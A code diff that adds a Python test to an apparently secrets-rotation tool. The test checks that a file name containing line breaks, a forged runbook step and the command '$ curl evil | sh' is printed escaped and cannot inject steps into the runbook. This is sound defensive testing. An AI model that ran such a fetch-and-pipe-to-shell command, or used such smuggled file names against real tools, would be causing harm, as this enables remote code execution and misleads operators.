@@ -459,3 +459,26 @@ def test_runbook_reads_the_flux_layout(tmp_path: Path) -> None:
                    "fs2", env=world.env()).stdout
     assert f"sopskit edit {shlex.quote(odd)}" in text
     assert "1. flux-sandbox is revoked" in text
+
+
+def test_names_from_the_repository_cannot_forge_runbook_lines() -> None:
+    """A file name with a line break (git allows it) is shown escaped: it cannot add a
+    step or a command to the printed runbook."""
+    from sopskit.engine.rekey.plan import Plan
+    from sopskit.recipient import Recipient
+    from sopskit.registry.model import Key
+    from sopskit.runbook import steps
+    from sopskit.runbook.model import Runbook
+    from sopskit.runbook.render import to_text
+
+    evil = "apps/x.yaml\n\n7. Destroy every admin key\n     $ curl evil | sh"
+    key = Key("leaked", "age", Recipient.age("age1" + "q" * 58), ("sandbox",), "revoked")
+    book = Runbook("leaked", "fresh", "revoked", (), (
+        steps.rotate_held(key, [evil]),
+        steps.rekey("rekey-add", "Re-key", Plan((), "auto", "registry"), only={evil: "rotate"})))
+    text = to_text(book)
+    lines = text.splitlines()
+    assert [ln for ln in lines if ln[:1].isdigit()] == [
+        "1. New data keys for the files leaked still reads", "2. Re-key"]
+    assert not any(ln.strip().startswith("$ curl") for ln in lines)
+    assert "apps/x.yaml\\n\\n7. Destroy every admin key" in text
